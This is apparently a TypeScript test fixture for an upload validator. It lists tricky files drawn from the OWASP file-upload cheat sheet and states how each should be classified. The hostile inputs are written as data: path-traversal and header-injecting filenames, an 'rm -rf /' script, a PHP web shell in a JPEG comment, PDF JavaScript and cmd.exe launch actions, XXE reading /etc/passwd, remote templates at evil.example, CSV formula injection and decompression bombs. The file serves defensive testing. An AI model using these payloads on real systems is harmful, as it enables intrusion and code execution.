import { aJpeg, aPng, aWebp } from "#tests/support/files/pictures.ts";
import { aPdf, aStream, packed } from "#tests/support/files/pdfs.ts";
import { anOfficeFile, anOpenDocument, aZip, relations } from "#tests/support/files/zips.ts";
import { mostBytes } from "#lib/domain/files/kinds.ts";
import { oddlyNamed } from "./odd-names.ts";
import { document, image, type Trick } from "./trick.ts";

const html = Buffer.from("<!DOCTYPE html><html><script>alert(1)</script></html>");
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`);
const gif = Buffer.from(
  "GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
  "latin1",
);
const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic\0\0\0\0heicmif1")]);
const program = Buffer.concat([Buffer.from("MZ\x90\0"), Buffer.alloc(200)]);
const cfb = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);
const macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
const rels = (inside: string) => [{ name: "word/_rels/document.xml.rels", content: relations(inside) }];
const external = (type: string) =>
  `<Relationship Id="r" Type="x/${type}" Target="https://evil.example/a" TargetMode="External"/>`;
const template = (said: string) =>
  `<Relationship Id="r" Type="x/attachedTemplate" Target="https://evil.example/a" ${said}/>`;
const padded = (bytes: Buffer, length: number) => Buffer.concat([bytes, Buffer.alloc(length - bytes.length, 32)]);
const csv = Buffer.from("name,figure\nLibraries,12\n");

/** The tricks of the OWASP cheat sheet on file uploads and their kin, each with how it ends. */
export const tricks: readonly Trick[] = [
  image("a double ending, the last of which is a program's", "bus.jpg.exe", () => aJpeg(), "not-accepted"),
  image("a double ending, the first of which is a program's", "bus.php.jpg", () => aJpeg(), { kept: "bus-php.jpg" }),
  image("a NUL before a second ending", "bus.php\0.jpg", () => aJpeg(), { kept: "bus-php.jpg" }),
  image("an ending in odd letters", "BUS.JpEg", () => aJpeg(), { kept: "BUS.jpg" }),
  image("no ending", "bus", () => aJpeg(), "not-accepted"),
  image("dots and spaces behind the ending", "bus.jpg. . .", () => aJpeg(), "not-accepted"),
  image("a way out of the folder", "../../../etc/cron.d/bus.jpg", () => aJpeg(), { kept: "bus.jpg" }),
  image("a way out of the folder as Windows writes it", "..\\..\\boot\\bus.jpg", () => aJpeg(), { kept: "bus.jpg" }),
  image("a name that reads backwards", "bus\u202egpj.exe.jpg", () => aJpeg(), { kept: "busgpj-exe.jpg" }),
  image("line ends in a name", "bus\r\nSet-Cookie: a=b.jpg", () => aJpeg(), { kept: "busSet-Cookie- a=b.jpg" }),
  image("a name of a thousand letters", `${"b".repeat(1000)}.jpg`, () => aJpeg(), { kept: `${"b".repeat(80)}.jpg` }),
  image("a name that Windows keeps for itself", "con.jpg", () => aJpeg(), { kept: "file-con.jpg" }),
  image("a stream of NTFS", "bus.jpg::$DATA", () => aJpeg(), "not-accepted"),
  image("a web page that calls itself a JPEG", "bus.jpg", () => html, "program"),
  image("a script of a shell", "bus.jpg", () => Buffer.from("#!/bin/sh\nrm -rf /\n"), "program"),
  image("an SVG with a script", "bus.svg", () => svg, "not-accepted"),
  image("an SVG that calls itself a PNG", "bus.png", () => svg, "not-accepted"),
  image("a program that calls itself a PNG", "bus.png", () => program, "program"),
  image("a GIF", "bus.gif", () => gif, "not-accepted"),
  image("a GIF that calls itself a JPEG", "bus.jpg", () => gif, "not-accepted"),
  image("PostScript", "bus.jpg", () => Buffer.from("%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"), "program"),
  image("a HEIC photo", "IMG_1.HEIC", () => heic, "not-accepted"),
  image("a PNG that calls itself a JPEG", "bus.jpg", () => aPng(), "other-kind"),
  image("a document among the pictures", "report.pdf", () => aPdf(), "elsewhere"),
  image("a JPEG with a zip behind it (GIFAR)", "bus.jpg", async () => Buffer.concat([await aJpeg(), aZip([])]), {
    kept: "bus.jpg",
  }),
  image("a JPEG with a script in a comment", "bus.jpg", () => withComment("<?php system($_GET['c']); ?>"), {
    kept: "bus.jpg",
  }),
  image("half a JPEG's head", "bus.jpg", async () => (await aJpeg()).subarray(0, 20), "damaged"),
  image("a JPEG of nothing but its first bytes", "bus.jpg", () => Buffer.from("ffd8ffe0", "hex"), "damaged"),
  image(
    "a PNG of 400 million pixels in a few bytes",
    "bus.png",
    () => aPng(20_000, 20_000, { rows: 1 }),
    "too-many-pixels",
  ),
  image("a PNG that lacks most of its rows", "bus.png", () => aPng(2000, 2000, { rows: 1 }), "damaged"),
  image("a PNG that moves", "bus.png", () => aPng(4, 4, { extra: [["acTL", Buffer.alloc(8)]] }), "moving"),
  image("a WebP cut short", "bus.webp", async () => (await aWebp()).subarray(0, 60), "damaged"),
  image("nothing", "bus.jpg", () => Buffer.alloc(0), "empty"),
  image("one byte more than may be", "bus.jpg", async () => padded(await aJpeg(), mostBytes + 1), "too-large"),
  image("as many bytes as may be", "bus.jpg", async () => padded(await aJpeg(), mostBytes), { kept: "bus.jpg" }),
  image("one byte less", "bus.jpg", async () => padded(await aJpeg(), mostBytes - 1), { kept: "bus.jpg" }),
  document("a PDF with a script", "a.pdf", () => aPdf("/OpenAction<</S/JavaScript/JS(app.alert)>>"), "script-within"),
  document(
    "a PDF with a script whose name is disguised",
    "a.pdf",
    () => aPdf("/AA<</O<</S/J#61vaScript>>>>"),
    "script-within",
  ),
  document(
    "a PDF with a packed script",
    "a.pdf",
    () => aPdf("", packed("3 0 <</S/JavaScript/JS(x)>>")),
    "script-within",
  ),
  document("a PDF that starts a program", "a.pdf", () => aPdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), "script-within"),
  document("a PDF with files inside", "a.pdf", () => aPdf("/Names<</EmbeddedFiles 5 0 R>>"), "holds-files"),
  document("a PDF whose letters happen to read so", "a.pdf", () => aPdf("", aStream("/JS /Launch")), { kept: "a.pdf" }),
  document(
    "a PDF with a zip behind it",
    "a.pdf",
    () => Buffer.concat([aPdf(), aZip([{ name: "a", content: "a" }])]),
    "damaged",
  ),
  document("a web page before a PDF", "a.pdf", () => Buffer.concat([html, aPdf()]), "program"),
  document("half a PDF", "a.pdf", () => aPdf().subarray(0, 90), "damaged"),
  document("a web page that calls itself a PDF", "a.pdf", () => html, "program"),
  document("a web page", "a.html", () => html, "program"),
  document("a Word file", "a.docx", () => anOfficeFile("docx", rels(external("hyperlink"))), { kept: "a.docx" }),
  document("an ODT", "a.odt", () => anOpenDocument("odt"), { kept: "a.odt" }),
  document("a Word file with macros", "a.docm", () => anOfficeFile("docx", [], macros), "macros"),
  document(
    "one that hides them",
    "a.docx",
    () => anOfficeFile("docx", [{ name: "word/vbaProject.bin", content: "x" }]),
    "macros",
  ),
  document(
    "an ODS with macros",
    "a.ods",
    () => anOpenDocument("ods", [{ name: "Basic/m.xml", content: "x" }]),
    "macros",
  ),
  document(
    "a Word file with a template from elsewhere",
    "a.docx",
    () => anOfficeFile("docx", rels(external("attachedTemplate"))),
    "loads-from-elsewhere",
  ),
  ...[
    rels(template('TargetMode="Extern&#97;l"')),
    rels(template('A=">" TargetMode="External"')),
    rels(template('targetmode="Internal" TargetMode="External"')),
    rels(external("attachedTemplate").replace("<R", "<o:R")),
    [{ name: "word/_rels/settings.xml.RELS", content: relations(external("attachedTemplate")) }],
    ...["\ufeff", ""].map((mark) => [inUtf16(mark + relations(external("attachedTemplate")))]),
    rels("").map((one) => ({ ...one, content: one.content.replace("UTF-8", "UTF-7") })),
    rels(template('TargetMode="&a;"')).map((one) => ({
      ...one,
      content: one.content.replace("?>", `?><!--${"x".repeat(5000)}--><!DOCTYPE a [<!ENTITY a "External">]>`),
    })),
  ].map((parts, way) =>
    document(
      `way ${way + 1} to hide a template elsewhere`,
      "a.docx",
      () => anOfficeFile("docx", parts),
      "loads-from-elsewhere",
    ),
  ),
  document(
    "a Word file whose links are in UTF-16",
    "a.docx",
    () => anOfficeFile("docx", [inUtf16(`\ufeff${relations(external("hyperlink"))}`)]),
    { kept: "a.docx" },
  ),
  document(
    "a Word file with entities",
    "a.docx",
    () =>
      anOfficeFile("docx", [
        { name: "word/document.xml", content: `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>` },
      ]),
    "loads-from-elsewhere",
  ),
  document(
    "a Word file with entities behind a long comment",
    "a.docx",
    () =>
      anOfficeFile("docx", [
        { name: "word/styles.xml", content: `<!--${"x".repeat(65_520)}--><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>` },
      ]),
    "loads-from-elsewhere",
  ),
  document(
    "a Word file with a way out of the folder",
    "a.docx",
    () => anOfficeFile("docx", [{ name: "../../evil.xml", content: "x" }]),
    "damaged",
  ),
  document(
    "a Word file with a program inside",
    "a.docx",
    () => anOfficeFile("docx", [{ name: "word/embeddings/a.exe", content: "MZ" }]),
    "holds-files",
  ),
  document("a zip that calls itself a Word file", "a.docx", () => aZip([{ name: "a.txt", content: "a" }]), "program"),
  document("an Excel file that calls itself a Word file", "a.docx", () => anOfficeFile("xlsx"), "other-kind"),
  document(
    "300 MB of zeros inside",
    "a.docx",
    () => anOfficeFile("docx", [{ name: "word/a.xml", content: Buffer.alloc(300 * 2 ** 20) }]),
    "too-large-within",
  ),
  document(
    "zeros that deny how many they are",
    "a.docx",
    () => anOfficeFile("docx", [{ name: "word/a.xml", content: Buffer.alloc(2 ** 20), stated: 10 }]),
    "damaged",
  ),
  document("a Word file with a password", "a.docx", () => cfb, "older-office"),
  document(
    "a zip with a password",
    "a.docx",
    () => anOfficeFile("docx", [{ name: "word/a.xml", content: "a", flags: 1 }]),
    "password",
  ),
  document("half a zip", "a.docx", () => anOfficeFile("docx").subarray(0, 200), "damaged"),
  document("a table that starts a program", "a.csv", () => Buffer.from("a,b\n=cmd|' /C calc'!A0,1\n"), "formulas"),
  document("a table in no letters", "a.csv", () => Buffer.from([0x61, 0, 0x2c, 0xff]), "not-text"),
  document(
    "a table with a web page in it",
    "a.csv",
    () => Buffer.from("a,b\n<script>alert(1)</script>,2\n"),
    "program",
  ),
  document("a table", "a.csv", () => csv, { kept: "a.csv" }),
  document("plain text", "a.txt", () => csv, "not-accepted"),
  ...oddlyNamed,
];

function inUtf16(text: string) {
  const content = Buffer.from(text.replace("UTF-8", "UTF-16"), "utf16le");
  return { name: "word/_rels/document.xml.rels", content };
}

async function withComment(text: string): Promise<Buffer> {
  const jpeg = await aJpeg();
  const head = Buffer.from([0xff, 0xfe, 0, text.length + 2]);
  return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(text), jpeg.subarray(2)]);
}
